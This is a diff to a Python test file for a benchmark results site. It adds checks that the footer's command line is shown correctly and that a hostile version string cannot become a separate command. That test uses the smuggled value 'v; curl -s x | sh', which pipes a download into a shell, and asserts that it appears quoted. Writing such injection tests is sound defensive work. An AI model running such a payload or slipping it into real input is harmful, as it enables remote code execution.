@@ -164,6 +164,7 @@ def test_mixed_hardware_is_shown(runs: Path, tmp_path: Path) -> None:
     add_trial(runs, CURVE, Left(hardware_class="gpu-h200"), submission="lion")
     first = make_site(runs, tmp_path / "site", is_mixed_hardware_allowed=True)
     assert "mixed hardware, so times do not compare" in Page(first).text
+    assert "score trials --rules house --allow-mixed-hardware in its" in Page(first).text
 
 
 def test_the_copies_score_the_same_again(runs: Path, tmp_path: Path) -> None:
@@ -210,6 +211,13 @@ def test_nothing_of_a_hostile_submission_becomes_markup(hostile: Path, tmp_path:
         text = file.read_text(encoding="utf-8")
         assert "<script>" not in text
         assert not {"\x00", "\x1b"} & set(text)
+
+
+def test_the_command_in_the_footer_cannot_be_made_another(tmp_path: Path) -> None:
+    add_trial(tmp_path / "runs", CURVE, version="v; curl -s x | sh")
+    site = make_site(tmp_path / "runs", tmp_path / "site")
+    command = "pacebench score trials --rules 'v; curl -s x | sh' in its folder"
+    assert command in Page(site).text
 
 
 def test_a_very_long_name_is_cut_wherever_it_is_one_of_many(tmp_path: Path) -> None:
